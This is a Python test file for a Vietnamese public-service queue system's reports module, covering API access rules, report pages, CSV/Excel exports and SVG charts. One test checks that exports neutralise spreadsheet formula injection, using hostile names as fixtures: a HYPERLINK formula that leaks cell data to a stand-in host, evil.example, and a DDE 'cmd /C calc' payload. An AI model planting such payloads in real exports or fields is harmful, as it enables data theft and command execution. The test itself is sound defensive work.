"""The report surfaces: who may see them, the JSON a province pulls, the pages, the exports of every
table (CSV and Excel) and the SVG charts, on the hand-made day."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from server.web.reports.routes import EXPORTABLE
from tests.console.helpers import sign_in

DAY = "period=day&date=2026-03-10"


def bearer(center, user="boss"):
    return {"Authorization": f"Bearer {center['users'][user]['api_token']}"}


def test_api_needs_a_supervisor(client, center, day):
    assert client.get(f"/api/reports?{DAY}").get_json()["error"] == "unauthorized"
    r = client.get(f"/api/reports?{DAY}", headers=bearer(center, "officer1"))
    assert r.status_code == 403 and r.get_json() == {"ok": False, "error": "forbidden", "message": r.get_json()["message"]}
    r = client.get(f"/api/reports?{DAY}", headers=bearer(center, "boss"))
    assert r.status_code == 200
    body = r.get_json()
    assert body["ok"] and body["period"]["from"] == "2026-03-10" and body["summary"]["satisfaction_rate"] == 75.0
    assert {"services", "officers", "counters", "series", "heat", "ranking"} <= set(body)


def test_api_sections(client, center, day):
    for section in ("summary", "services", "officers", "counters", "series", "heat", "ranking"):
        r = client.get(f"/api/reports/{section}?{DAY}", headers=bearer(center))
        assert r.status_code == 200, section
        assert section in r.get_json() and r.get_json()["period"]["days"] == 1
    assert client.get(f"/api/reports/summary?{DAY}", headers=bearer(center)).get_json()["summary"]["p90_wait_s"] == 1800.0
    r = client.get("/api/reports/everything", headers=bearer(center))
    assert r.status_code == 404 and "summary" in r.get_json()["message"]


@pytest.mark.parametrize("query, words", [
    ("period=decade", "period"), ("period=day&date=yesterday", "date"), ("service=ZZ", "ZZ"),
    ("counter=abc", "counter"), ("officer=ghost", "ghost"), ("period=range&from=2026-03-10", "'to'"),
])
def test_api_bad_parameters_are_named(client, center, query, words):
    r = client.get(f"/api/reports?{query}", headers=bearer(center))
    assert r.status_code == 400
    body = r.get_json()
    assert body["ok"] is False and body["error"] == "bad_request" and words in body["message"]


def test_pages_ask_to_sign_in_and_refuse_officers(client, center, day):
    r = client.get("/reports?period=month")
    assert r.status_code == 302 and "/login?next=" in r.headers["Location"]
    assert sign_in(client, center, "officer1").status_code == 302
    assert client.get("/reports").status_code == 403
    assert client.get("/reports/print").status_code == 403


def test_the_report_page(client, center, day):
    sign_in(client, center, "boss")
    html = client.get(f"/reports?{DAY}&lang=vi").get_data(as_text=True)
    assert "Ngày 10/03/2026" in html and "Tỷ lệ hài lòng (%)" in html
    assert "75,0" in html                                    # the rate, with its count beside it
    assert "3 / 4 đánh giá được tính" in html
    assert "(C × m + S) / (C + n) × 100" in html and "C = 20" in html
    for name in EXPORTABLE:
        assert f"/reports/export/{name}.csv?" in html and f"/reports/export/{name}.xlsx?" in html, name
    for name in ("flow", "satisfaction", "levels", "waits", "ranking"):
        assert f"/reports/chart/{name}.svg?" in html
    english = client.get(f"/reports?{DAY}&lang=en").get_data(as_text=True)
    assert "Satisfaction rate (%)" in english and "Show report" in english


def test_a_bad_period_on_the_page_says_what_is_wrong(client, center):
    sign_in(client, center, "boss")
    r = client.get("/reports?period=range&from=2026-03-10&to=2026-03-01")
    assert r.status_code == 400 and "&#39;from&#39; (2026-03-10)" in r.get_data(as_text=True)


def test_print_page_is_the_monthly_report_in_vietnamese(client, center, day):
    sign_in(client, center, "boss")
    html = client.get("/reports/print?period=month&date=2026-03-10&lang=en").get_data(as_text=True)
    assert "BÁO CÁO" in html and "Tháng 03/2026" in html and "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in html
    assert "Tỷ lệ hài lòng (%): 75,0 %" in html and "(2 + 1) / 4 × 100" in html
    assert "SIPAS" not in html and "Satisfaction" not in html


def test_csv_exports(client, center, day):
    r = client.get(f"/reports/export/officers.csv?{DAY}&lang=vi", headers=bearer(center))
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.data.startswith("\ufeff".encode())  # so that Excel reads the Vietnamese right
    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"))))
    o1 = next(row for row in rows if row["Cán bộ"] == "Cán bộ 1")
    assert o1["Đã phục vụ"] == "3" and o1["Tỷ lệ hài lòng (%)"] == "100.0" and o1["Thời gian phục vụ TB (phút)"] == "8.3"
    summary = list(csv.reader(io.StringIO(client.get(f"/reports/export/summary.csv?{DAY}", headers=bearer(center))
                                           .data.decode("utf-8-sig"))))
    assert ["Tỷ lệ hài lòng (%)", "75.0", "4", "đánh giá được tính"] in summary
    for name in EXPORTABLE:
        r = client.get(f"/reports/export/{name}.csv?{DAY}", headers=bearer(center))
        assert r.status_code == 200 and len(r.data.decode("utf-8-sig").splitlines()) >= 2, name


def test_excel_exports(client, center, day):
    r = client.get(f"/reports/export/all.xlsx?{DAY}", headers=bearer(center))
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    wb = load_workbook(io.BytesIO(r.data))
    assert wb.sheetnames == list(EXPORTABLE)
    ws = wb["summary"]
    cells = {row[0]: row[1] for row in ws.iter_rows(values_only=True) if row and row[0]}
    assert cells["Tỷ lệ hài lòng (%)"] == 75.0 and cells["Số phiếu đã cấp"] == 6  # numbers, not text
    assert cells["Thời gian chờ – 90 % công dân không quá (phút)"] == 30.0
    single = load_workbook(io.BytesIO(client.get(f"/reports/export/services.xlsx?{DAY}", headers=bearer(center)).data))
    assert single.sheetnames == ["services"]
    assert client.get(f"/reports/export/all.csv?{DAY}", headers=bearer(center)).status_code == 404
    assert client.get(f"/reports/export/officers.pdf?{DAY}", headers=bearer(center)).status_code == 404


@pytest.mark.parametrize("name", ["flow", "satisfaction", "levels", "ranking", "waits"])
def test_charts_are_svg_needing_nothing_from_the_internet(client, center, day, name):
    r = client.get(f"/reports/chart/{name}.svg?period=week&date=2026-03-10", headers=bearer(center))
    assert r.status_code == 200 and r.mimetype == "image/svg+xml"
    svg = r.get_data(as_text=True)
    assert "<svg" in svg and "<script" not in svg
    assert not re.search(r'(?:href|src)="(?:https?:)?//', svg)  # no script, font or image from elsewhere


def test_unknown_chart(client, center):
    assert client.get("/reports/chart/pie.svg", headers=bearer(center)).status_code == 404


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def test_names_that_look_like_formulas_are_exported_as_text(client, center, day, qms):
    # Names come from people: an officer named like a formula, services starting with + - @ tab.
    def rename(db, cfg, now):
        db.execute("UPDATE users SET full_name = ? WHERE username = 'officer1'", [EVIL])
        db.execute("UPDATE users SET full_name = '@SUM(1+1)' WHERE username = 'officer2'")
        db.execute("UPDATE services SET name_vi = '+cmd|'' /C calc''!A0' WHERE code = 'A'")
        db.execute("UPDATE services SET name_vi = '-2+3', name_en = '\t=1+1' WHERE code = 'B'")
    qms.write(rename)
    officers = list(csv.reader(io.StringIO(client.get(f"/reports/export/officers.csv?{DAY}", headers=bearer(center))
                                            .data.decode("utf-8-sig"))))
    names = [row[0] for row in officers[1:]]
    assert "'" + EVIL in names and "'@SUM(1+1)" in names
    o1 = next(row for row in officers if row[0] == "'" + EVIL)
    assert o1[1] == "3"  # the figures stay numbers (served)
    services = [row[0] for row in csv.reader(io.StringIO(
        client.get(f"/reports/export/services.csv?{DAY}", headers=bearer(center)).data.decode("utf-8-sig")))]
    assert "'+cmd|' /C calc'!A0" in services and "'-2+3" in services
    en = [row[0] for row in csv.reader(io.StringIO(
        client.get(f"/reports/export/services.csv?{DAY}&lang=en", headers=bearer(center)).data.decode("utf-8-sig")))]
    assert "'\t=1+1" in en

    wb = load_workbook(io.BytesIO(client.get(f"/reports/export/all.xlsx?{DAY}&officer=officer1&lang=vi",
                                             headers=bearer(center)).data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)  # officers, ranking, heading
    assert any(c.value == "+cmd|' /C calc'!A0" and c.data_type == "s" for c in cells)
    assert any(c.value == "Cán bộ: " + EVIL for c in cells)  # the filter line of the heading
    # numbers are still numbers
    row = next(r for r in wb["officers"].iter_rows() if r[0].value == EVIL)
    assert all(c.data_type == "n" for c in row[1:] if c.value is not None)
